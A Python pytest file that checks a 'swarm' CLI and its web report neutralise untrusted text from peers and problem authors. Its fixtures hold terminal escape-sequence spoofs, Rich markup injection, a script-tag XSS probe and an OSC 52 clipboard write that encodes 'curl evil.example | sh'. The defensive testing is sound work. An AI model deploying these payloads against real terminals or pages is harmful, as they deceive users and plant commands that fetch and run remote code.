"""Issue 8 findings 3 and 4: what a guest, a problem author or a peer wrote never acts on the
terminal (no ESC, BEL, C1 or bidi character reaches it) and never reads as rich markup, in
`swarm eval`, `log`, `status` and `leaderboard`, human and --json alike."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from node.identity import Identity, sign_record
from node.problem import load_package
from node.store import RecordStore
from node.untrusted_text import BIDI
from research_dag import Experiment, Outcome

PROBE = Path(__file__).parent / "fixtures" / "probe"

# Every terminal trick of finding 3: clear screen and home, a fake green status line, a window
# title, an OSC 52 clipboard write, an OSC 8 link, concealed text, an 8-bit CSI and bidi.
SPOOF = (
    "\x1b[2J\x1b[H\x1b[1;32mstatus: ok\x1b[0m"
    "\x1b]0;pwned\x07"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
    "\x1b[8mhidden\x1b[28m"
    "\x9b31m\u202eevil\u2066x\u2069"
)
# Finding 4: a closing tag with nothing open raises MarkupError; [link=...] makes a hyperlink.
MARKUP = "[/] [link=https://evil.example]click[/link] [bold red]loud"
HOSTILE = MARKUP + " " + SPOOF

STRATEGY = f"""import sys

def solve(public_dir):
    sys.stderr.write({HOSTILE!r} + "\\n")
    return {{"x": 5.0}}
"""
EVALUATOR = f"""def evaluate(output, public_dir, private_dir):
    return {{"score": float(output["x"]), "items": {{{MARKUP!r}: True}},
             "details": {{"note": {HOSTILE!r}}}}}
"""


def _run(*args: str, data_dir: Path | None = None) -> tuple[int, str]:
    env = dict(os.environ)
    if data_dir is not None:
        env["SWARM_DATA_DIR"] = str(data_dir)
    done = subprocess.run(
        [sys.executable, "-c", "from node.cli import main; main()", *args],
        capture_output=True, env=env, timeout=300,
    )
    return done.returncode, (done.stdout + done.stderr).decode("utf-8")


def _assert_inert(text: str) -> None:
    """Nothing in `text` acts on a terminal, and nothing crashed on the way."""
    assert "\x1b" not in text and "\x07" not in text
    assert not any(0x80 <= ord(char) <= 0x9F for char in text)
    assert not any(char in BIDI for char in text)
    assert "Traceback" not in text and "MarkupError" not in text


@pytest.fixture(scope="module")
def hostile_package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    package = tmp_path_factory.mktemp("hostile") / "package"
    shutil.copytree(PROBE, package)
    (package / "strategy.py").write_text(STRATEGY)
    (package / "evaluate.py").write_text(EVALUATOR)
    return package


def test_eval_shows_a_spoofing_stderr_and_markup_details_as_text(hostile_package: Path) -> None:
    code, text = _run("eval", str(hostile_package))
    assert code == 0, text
    _assert_inert(text)
    assert text.splitlines()[0] == "status: ok"
    # The guest's fake status lines (its stderr, a detail) show the escapes they rely on.
    assert text.count("\\x1b[1;32mstatus: ok") == text.count("status: ok") - 1 == 2
    assert "\\x1b]52;c;" in text and "\\x1b]8;;https://evil.example\\x07" in text
    assert "\\x9b31m\\u202eevil" in text
    assert MARKUP in text  # brackets print as typed, in the details and the checklist


def test_eval_json_carries_every_character_escaped_never_raw(hostile_package: Path) -> None:
    code, text = _run("eval", str(hostile_package), "--json")
    assert code == 0, text
    assert text.isascii()
    _assert_inert(text)
    report = json.loads(text)
    note = report["details"]["note"]  # the data itself is unchanged (details are cut short)
    assert HOSTILE.startswith(note) and "\u202e" in note
    assert HOSTILE in report["stderr_tail"]
    assert report["items"] == {MARKUP: True}


@pytest.fixture(scope="module")
def hostile_data_dir(hostile_package: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data dir holding a peer's experiment with a hostile description, kind and author."""
    data_dir = tmp_path_factory.mktemp("data")
    problem = load_package(hostile_package)
    peer = Identity.from_seed(b"\x07" * 32)
    claim = Experiment(
        problem=problem.id, strategy={"strategy.py": STRATEGY},
        mutation_kind=MARKUP[:60], description=HOSTILE, hypothesis=HOSTILE,
        outcome=Outcome(status="ok", score=5.0, details={"note": HOSTILE[:200]}),
        author=peer.peer_id, created_ms=1,
    )
    forged_author = Experiment(
        problem=problem.id, strategy={"strategy.py": STRATEGY + "\n"},
        mutation_kind="perturb", description="x",
        outcome=Outcome(status="ok", score=4.0), author="[/]\x1b]0;t\x07\u202e", created_ms=2,
    )
    with RecordStore.open(data_dir / "records.sqlite") as store:
        store.add(problem)
        store.add(sign_record(claim, peer))
        store.add(forged_author)
    return data_dir


@pytest.mark.parametrize(
    ("command", "as_json"),
    [
        *((command, as_json) for command in [("log", "{package}"), ("status",), ("leaderboard",)]
          for as_json in (False, True)),
        (("log", "{package}", "--tsv", "-"), False),  # TSV has no JSON form
    ],
)
def test_peer_text_is_inert_in_log_status_and_leaderboard(
    hostile_package: Path, hostile_data_dir: Path, command: tuple[str, ...], as_json: bool
) -> None:
    args = [part.format(package=hostile_package) for part in command]
    code, text = _run(*args, *(["--json"] if as_json else []), data_dir=hostile_data_dir)
    assert code == 0, text
    _assert_inert(text)
    if as_json:
        assert text.isascii()
        json.loads(text)
    elif command[0] == "log":
        assert "\\x1b]52;c;" in text.replace("\n", "")  # shown, folded across table lines


def test_the_simulation_page_shows_an_authors_name_inert() -> None:
    from node.web import DashboardSource, export_report

    name = "\u202e<script>alert(1)</script>\x1b]0;t\x07"
    report = {"config": {"nodes": 1, "network": "memory", "faults": {},
                         "problem": {"name": name, "direction": "maximize", "target": None}},
              "nodes": [], "swarm": {"best": 1.0}, "history": []}
    page = export_report(DashboardSource(store=lambda: None, simulation=lambda: report))
    data = page.split('id="swarm-data">', 1)[1].split("</script>", 1)[0]
    _assert_inert(data)
    assert "<script>alert" not in page and "\\\\u202e\\u003cscript\\u003e" in data
